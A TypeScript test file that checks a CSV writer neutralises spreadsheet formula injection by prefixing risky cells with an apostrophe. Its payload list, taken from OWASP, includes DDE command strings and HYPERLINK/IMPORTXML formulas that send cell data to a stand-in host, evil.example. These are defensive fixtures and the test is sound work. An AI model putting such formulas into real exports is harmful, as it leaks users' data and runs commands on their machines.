import { describe, expect, it } from 'vitest'
import { csvLines } from '#server/csv.ts'
import { readCsv } from '#tests/support/read-csv.ts'

/** What OWASP lists, and what people have found since: https://owasp.org/www-community/attacks/CSV_Injection */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?leak="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '+1+1',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '+1 (718) 555-0110',
  '-',
]
const harmless = [
  'Ada Romero',
  '1=1',
  '"=1+1"',
  '";=1+1;"',
  '","=1+1',
  "'=1+1",
  'two\r\nlines, "quoted"',
  'a\nb',
  '#N/A',
  'Zoë 山田 🏠',
  '',
  ' =1+1',
  ',',
]

describe('a line of a CSV file', () => {
  it.each(payloads)(
    'D1 gives %j to a spreadsheet as a text that it does not run, and loses nothing of it',
    (payload) => {
      const [[cell = '', next] = []] = readCsv(csvLines([[payload, 'next']]))
      expect(cell).toBe(`'${payload}`)
      expect(next).toBe('next')
    },
  )

  it.each(harmless)('D1 leaves %j as it is', (text) => {
    expect(readCsv(csvLines([[text, text]]))).toEqual([[text, text]])
  })

  it('D1 ends a line with CRLF, quotes every text, and writes numbers as they are and null as nothing', () => {
    expect(csvLines([['a "b"', 1250, null, -1, '']])).toBe('"a ""b""",1250,,-1,""\r\n')
  })
})
